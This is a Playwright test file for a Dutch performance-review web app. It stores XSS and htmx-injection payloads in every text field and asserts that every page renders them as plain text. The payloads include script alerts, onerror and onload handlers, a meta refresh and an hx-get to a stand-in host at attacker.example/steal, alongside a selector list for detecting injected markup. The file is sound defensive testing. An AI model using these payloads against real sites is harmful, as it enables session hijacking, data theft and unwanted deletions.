"""Text that looks like markup stays text, in a real browser.

Each payload is stored in every text the app keeps (names, job titles, every answer,
goals, agreements, the name of "someone else"), then every page and htmx fragment is
opened as a user would. What an attacker wants must not happen: no dialog, no
navigation away, no request the user did not make (above all no /delete and nothing
off-site), no element made from the payload. And the payload reads as typed.
"""
import re
from dataclasses import dataclass, field
from datetime import date, timedelta
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from voortgang.conversations.models import (Agreement, AgreementKind, AgreementReview,
                                            Answer, Conversation, Goal, GoalKind,
                                            GoalPeriod, Outcome, Owner, Status)
from voortgang.conversations.questions import PHASES
from voortgang.extensions import db
from voortgang.followup.models import CheckIn
from voortgang.people.models import Person
from voortgang.preparation.models import PreparedAnswer, PrivateNote

# What the templates render; the PostgreSQL run of .ci/run leaves it to the SQLite run.
pytestmark = pytest.mark.markup

# Nothing here may ever reach the network: .example never resolves, and the
# `watch` fixture aborts any request that leaves the live server anyway.
OFF_SITE = "https://attacker.example"
DELETE = "{delete}"  # replaced by the delete URL of an agreement that must survive

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f'<a hx-post="{DELETE}" hx-trigger="load">x</a>',
    f'<meta http-equiv=refresh content="0;url={OFF_SITE}">',
    '"></textarea></title><svg onload=alert(1)>',
    f'<div hx-get="{OFF_SITE}/steal" hx-trigger="load">x</div>',
    f"' hx-get='{OFF_SITE}' hx-trigger='load",
    f'<form action="{OFF_SITE}"><button>OK</button></form>',
    # Plain text that a template engine, a link or unescaping twice would change.
    "{{7*7}} ${7*7} {%raw%} javascript:alert(1) &lt;b&gt;&amp;#60;",
]

# Elements and attributes that only a payload could have put on a page.
INJECTED = ", ".join([
    "script:not([src])", "img", "svg", "iframe", "meta[http-equiv]", "form[action^=http]",
    "[onerror]", "[onload]", "[hx-trigger=load]", "[hx-get^=http]", "a[hx-post]",
])

# What the pages do by themselves: load our static files, and check an agreement
# form's text as soon as it is shown.
BACKGROUND = (r"GET /static/.+", r"POST /conversations/\d+/assistant/agreement")


def open_page(page, url):
    """Open a page of the app as the user does."""
    page.goto(url)


def log_in_as(page, browser_login, person_id, admin=False):
    """Go on as another person: the manager, the employee or HR of the stored review."""
    page.context.clear_cookies()
    browser_login(page.context, db.session.get(Person, person_id), admin=admin)
    db.session.commit()


@dataclass(frozen=True)
class Stored:
    payload: str
    conversation_id: int
    employee_id: int
    victim_id: int  # the agreement the injected hx-post would delete
    manager_id: int
    hr_id: int
    check_in_id: int = 0

    @property
    def check_in(self):
        return f"/check-ins/{self.check_in_id}"

    def phase(self, slug):
        return f"/conversations/{self.conversation_id}/{slug}"


@dataclass
class Watch:
    """What the browser did: dialogs, navigations, requests, checked step by step."""
    origin: str
    dialogs: list = field(default_factory=list)
    navigations: list = field(default_factory=list)
    requests: list = field(default_factory=list)
    checked: int = 0

    def unasked(self, asked):
        """The requests since the last check that neither the user nor the page's own
        behaviour made."""
        new, self.checked = self.requests[self.checked:], len(self.requests)
        patterns = [re.compile(p) for p in (*BACKGROUND, *asked)]
        problems = []
        for method, url in new:
            parts = urlsplit(url)
            line = f"{method} {parts.path}"
            if not url.startswith(self.origin + "/") or parts.path.endswith("/delete") \
                    or not any(p.fullmatch(line) for p in patterns):
                problems.append(f"{method} {url}")
        return problems


@pytest.fixture
def watch(context, page, live_server):
    """Record the page's dialogs, navigations and requests; abort anything off-site."""
    seen = Watch(live_server)
    context.route(lambda url: not url.startswith(live_server + "/"),
                  lambda route: route.abort())

    def on_dialog(dialog):
        seen.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("request", lambda r: seen.requests.append((r.method, r.url)))
    page.on("framenavigated",
            lambda frame: frame == page.main_frame and seen.navigations.append(frame.url))
    return seen


@pytest.fixture
def store(app):
    """Store one payload in every text the app keeps, through the models."""
    def stored(payload):
        manager = Person(name="placeholder")
        employee = Person(name="placeholder", manager=manager)
        hr = Person(name="placeholder")
        # The review before, whose goal and open agreement come back in this one.
        before = Conversation(employee=employee, manager=manager, held_on=date(2026, 5, 1),
                              status=Status.COMPLETED)
        review = Conversation(employee=employee, manager=manager, held_on=date(2026, 11, 27),
                              previous=before)
        victim = Agreement(conversation=review, description="Sanne plant het volgende "
                           "gesprek vóór 1 maart 2027", owner=Owner.MANAGER,
                           due_on=date(2027, 3, 1))
        db.session.add_all([manager, employee, hr, review, victim])
        db.session.flush()
        text = payload.replace(
            DELETE, f"/conversations/{review.id}/items/agreements/{victim.id}/delete")
        for person in (manager, employee, hr):
            person.name = person.job_title = text
        review.employee_reaction = text
        for phase in PHASES:
            review.answers.extend(Answer(question_key=q.key, text=text)
                                  for q in phase.questions)
        # Not met, with little said about obstacles: a follow-up tip quotes the goal.
        review.goals.append(Goal(description=text, kind=GoalKind.JOB,
                                 outcome=Outcome.NOT_MET))
        # Each side's own preparation and private notes, and a planned review.
        for author in (manager, employee):
            db.session.add_all(PreparedAnswer(conversation=review, author=author,
                                              question_key=q.key, text=text)
                               for phase in PHASES for q in phase.questions)
            db.session.add(PrivateNote(conversation=review, author=author, text=text))
        db.session.add(Conversation(employee=employee, manager=manager,
                                    held_on=date.today() + timedelta(days=7)))
        review.agreements.extend(
            Agreement(description=text, owner=owner, due_on=date(2027, 2, 1),
                      owner_name=text if owner is Owner.OTHER else None,
                      kind=AgreementKind.TRAINING)
            for owner in (Owner.EMPLOYEE, Owner.MANAGER, Owner.BOTH, Owner.OTHER))
        before.goals.append(Goal(description=text, period=GoalPeriod.COMING))
        before.agreements.append(Agreement(description=text, owner=Owner.OTHER,
                                           owner_name=text))
        db.session.flush()
        # Rated, with a comment: the goal; not yet rated, with a comment: the agreement
        # (so the tip links to it by its text).
        review.goals.append(Goal(description=text, outcome=Outcome.MET, comment=text,
                                 carried_from_id=before.goals[0].id))
        db.session.add(AgreementReview(conversation=review, agreement=before.agreements[0],
                                       comment=text))
        # An interim check-in's note and next step show on its page and the timeline.
        check_in = CheckIn(employee=employee, manager=manager, review=review,
                           planned_on=date(2027, 1, 20), note=text, next_step=text)
        db.session.add(check_in)
        db.session.commit()
        result = Stored(text, review.id, employee.id, victim.id, manager.id, hr.id,
                        check_in.id)
        db.session.commit()  # end the read transaction the attribute loads began
        return result
    return stored


def shown_text(page):
    """Everything a user can read on the page: text, field values, list options."""
    return page.evaluate("""() => [
      document.title, document.body.innerText,
      ...Array.from(document.querySelectorAll("textarea, input:not([type=hidden])"),
                    (field) => field.value),
      ...Array.from(document.querySelectorAll("option"), (option) => option.text),
    ].join("\\n")""")


def check(page, watch, stored, where, *asked):
    """Nothing the payload asked for happened, and the payload reads as text."""
    injected = page.locator(INJECTED)
    expect(injected, f"{where}: markup made from the payload").to_have_count(0)
    assert watch.dialogs == [], f"{where}: dialogs {watch.dialogs}"
    assert all(url.startswith(watch.origin + "/") for url in watch.navigations), \
        f"{where}: navigated to {watch.navigations}"
    assert watch.unasked(asked) == [], f"{where}: requests nobody asked for"
    assert stored.payload in shown_text(page), f"{where}: the payload is not shown as text"


def settled(page):
    """Wait until htmx has swapped in what it was asked for."""
    expect(page.locator(".htmx-request")).to_have_count(0)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_stored_markup_stays_text_on_every_page(page, watch, store, payload, console,
                                                browser_login):
    stored = store(payload)
    cid = stored.conversation_id

    log_in_as(page, browser_login, stored.hr_id, admin=True)
    person = f"/people/{stored.employee_id}"
    for url in ("/", "/people/new", person, f"{person}/edit", f"{person}/export",
                f"{person}/anonymise", f"/conversations/{cid}/history", "/follow-up"):
        open_page(page, url)
        check(page, watch, stored, f"HR: {url}", f"GET {re.escape(url)}")

    log_in_as(page, browser_login, stored.employee_id)
    for url in ("/", stored.phase("looking-back"), stored.phase("overview"), "/follow-up",
                stored.check_in, person, f"{person}/timeline", f"/conversations/{cid}/summary",
                stored.phase("prepare")):
        open_page(page, url)
        settled(page)
        check(page, watch, stored, f"employee: {url}", f"GET {re.escape(url)}")

    log_in_as(page, browser_login, stored.manager_id)
    for url in ("/", person, "/follow-up", stored.check_in, f"{person}/timeline",
                stored.phase("prepare")):
        open_page(page, url)
        check(page, watch, stored, url, f"GET {re.escape(url)}")
    _follow_up(page, watch, stored)

    _looking_back(page, watch, stored)
    stepper = page.get_by_role("navigation", name="Stappen van het gesprek")
    stepper.get_by_role("link", name="Vooruitblik").click()
    expect(page.get_by_role("heading", level=2)).to_have_text("Vooruitblik")
    check(page, watch, stored, "looking-ahead fragment", rf"GET /conversations/{cid}/looking-ahead")
    stepper.get_by_role("link", name="Afspraken").click()
    expect(page.get_by_role("heading", level=2)).to_have_text("Afspraken")
    settled(page)
    check(page, watch, stored, "agreements fragment", rf"GET /conversations/{cid}/agreements")
    _agreements(page, watch, stored)
    stepper.get_by_role("link", name="Overzicht").click()
    expect(page.get_by_role("heading", level=2)).to_have_text("Overzicht")
    check(page, watch, stored, "overview fragment", rf"GET /conversations/{cid}/overview")

    for slug in ("looking-ahead", "agreements", "overview"):
        open_page(page, stored.phase(slug))
        settled(page)
        check(page, watch, stored, slug, rf"GET /conversations/{cid}/{slug}")

    victim = db.session.scalar(db.select(Agreement.id).filter_by(id=stored.victim_id))
    db.session.commit()
    assert victim is not None, "the injected hx-post deleted an agreement"
    assert console.problems() == [], "\n".join(console.problems())


def _follow_up(page, watch, stored):
    """A due date moved, an agreement done, a check-in's note saved: all as text."""
    open_page(page, "/follow-up")
    page.locator(".follow-actions form").nth(1).locator("button").click()  # move
    expect(page.locator(".flash")).to_be_visible()
    check(page, watch, stored, "follow-up: moved", r"POST /follow-up/agreements/\d+/move",
          r"GET /follow-up")
    open_page(page, stored.check_in)
    page.get_by_role("button", name="Bewaren", exact=True).click()
    expect(page.locator(".flash")).to_be_visible()
    expect(page.locator("#note")).to_have_value(stored.payload)
    check(page, watch, stored, "check-in saved", rf"POST /check-ins/{stored.check_in_id}",
          rf"GET /check-ins/{stored.check_in_id}")


def _looking_back(page, watch, stored):
    """The phase page, a goal's edit form and back, an autosave, a tip dismissed."""
    cid = stored.conversation_id
    open_page(page, stored.phase("looking-back"))
    check(page, watch, stored, "looking-back", rf"GET /conversations/{cid}/looking-back")
    goal_tip = page.locator('#followups [data-rule="goal_not_met"]')
    expect(goal_tip).to_contain_text(stored.payload[:80])

    goal = page.locator("#goals .item").first
    goal.get_by_role("link", name="Bewerken").click()
    expect(page.locator("#goals textarea").first).to_have_value(stored.payload)
    check(page, watch, stored, "goal edit form",
          rf"GET /conversations/{cid}/items/goals/\d+/edit")
    page.locator("#goals").get_by_role("link", name="Annuleren").click()
    expect(page.locator("#goals .item-text")).to_have_text(stored.payload)
    check(page, watch, stored, "goal list", rf"GET /conversations/{cid}/items/goals")

    page.locator("#answer_contribution").press_sequentially(" en meer")
    expect(page.locator("#save-status")).to_contain_text("Bewaard om")
    check(page, watch, stored, "autosave and tips", rf"POST /conversations/{cid}/looking-back")
    expect(goal_tip).to_contain_text(stored.payload[:80])
    goal_tip.get_by_role("button", name="Wegklikken").click()
    expect(goal_tip).to_have_count(0)
    settled(page)
    check(page, watch, stored, "tip dismissed",
          rf"POST /conversations/{cid}/looking-back/followups/dismiss",
          rf"POST /conversations/{cid}/looking-back")  # leaving the answer saves it too


def _agreements(page, watch, stored):
    """Each agreement's edit form, the live check, a new agreement, a new date."""
    cid = stored.conversation_id
    agreements = page.locator("#agreements")
    owners = agreements.locator(".add-item").get_by_label("Wie doet het")
    expect(owners.locator("option[value=employee]")).to_have_text(
        f"{stored.payload} (medewerker)")
    expect(owners.locator("option[value=manager]")).to_have_text(
        f"{stored.payload} (leidinggevende)")
    # The last one is "someone else"'s: its form shows every text an agreement has.
    agreements.locator(".item").last.get_by_role("link", name="Bewerken").click()
    editing = agreements.locator(".item .item-form")
    expect(editing.get_by_label("Wat is er afgesproken")).to_have_value(stored.payload)
    expect(editing.get_by_label("Naam, als het iemand anders is")).to_have_value(
        stored.payload)
    expect(editing.locator(".assistant .checklist")).to_be_visible()
    check(page, watch, stored, "agreement edit form",
          rf"GET /conversations/{cid}/items/agreements/\d+/edit")
    editing.get_by_role("link", name="Annuleren").click()
    expect(agreements.locator(".item .item-form")).to_have_count(0)
    check(page, watch, stored, "agreement list", rf"GET /conversations/{cid}/items/agreements")

    new = agreements.locator(".add-item form")
    new.get_by_label("Wat is er afgesproken").fill(stored.payload)
    expect(new.locator(".assistant .checklist")).to_contain_text(stored.payload)
    check(page, watch, stored, "live agreement check")
    new.get_by_label("Wie doet het").select_option("other")
    new.get_by_label("Naam, als het iemand anders is").fill(stored.payload)
    new.get_by_role("button", name="Afspraak toevoegen").click()
    expect(agreements.locator(".item")).to_have_count(6)
    settled(page)
    check(page, watch, stored, "agreement added", rf"POST /conversations/{cid}/items/agreements")

    page.get_by_label("Datum van de volgende evaluatie").fill("2027-01-15")
    expect(agreements.locator('[data-rule="after_next_review"]')).not_to_have_count(0)
    settled(page)
    check(page, watch, stored, "advice after a new evaluation date",
          rf"POST /conversations/{cid}/agreements",
          rf"GET /conversations/{cid}/items/agreements/\d+/advice")


# Markup slipped in beside a stored text, as if escaping had failed there; htmx must
# leave it alone. A text area holds text only, and the title is outside the body.
SLIP_IN = """(marker) => {
  window.slippedThrough = [];
  document.addEventListener("htmx:beforeRequest",
                            (event) => window.slippedThrough.push(event.detail.pathInfo.requestPath));
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const places = [];
  while (walker.nextNode()) {
    const parent = walker.currentNode.parentElement;
    if (walker.currentNode.data.includes(marker) && !parent.closest("textarea")) {
      places.push(parent);
    }
  }
  places.forEach((parent) => parent.insertAdjacentHTML("beforeend",
    '<b hx-get="/static/favicon.svg?slipped" hx-trigger="load"></b>'));
  places.forEach((parent) => window.htmx.process(parent));
  return places.length;
}"""


def test_htmx_does_nothing_where_stored_text_is_shown(page, store, console,
                                                      browser_login):
    """Defence in depth: every element that shows a stored text sits in hx-disable."""
    stored = store("Merel Markeer")
    agreements = stored.phase("agreements")
    person = f"/people/{stored.employee_id}"
    visits = [(stored.hr_id, True, url) for url in (
        "/", person, f"{person}/export", f"/conversations/{stored.conversation_id}/history")]
    visits += [(stored.employee_id, False, url) for url in (
        "/", stored.phase("overview"), stored.phase("looking-ahead"), stored.phase("prepare"),
        "/follow-up", stored.check_in)]
    visits += [(stored.manager_id, False, url) for url in (
        "/", person, stored.phase("looking-back"), agreements, stored.phase("overview"),
        stored.phase("prepare"), "/follow-up", stored.check_in)]
    for person_id, admin, url in visits:
        log_in_as(page, browser_login, person_id, admin)
        open_page(page, url)
        settled(page)
        if url == agreements:  # the live check shows names and marks words of the text
            page.locator(".add-item").get_by_label("Wat is er afgesproken").fill(
                "Merel Markeer gaat binnenkort proberen te plannen")
            expect(page.locator(".add-item .marked-text mark").first).to_have_text("binnenkort")
        assert page.evaluate(SLIP_IN, stored.payload) > 0, f"{url}: no stored text found"
        assert page.evaluate("window.slippedThrough") == [], f"{url}: htmx acted"
    assert console.problems() == [], "\n".join(console.problems())
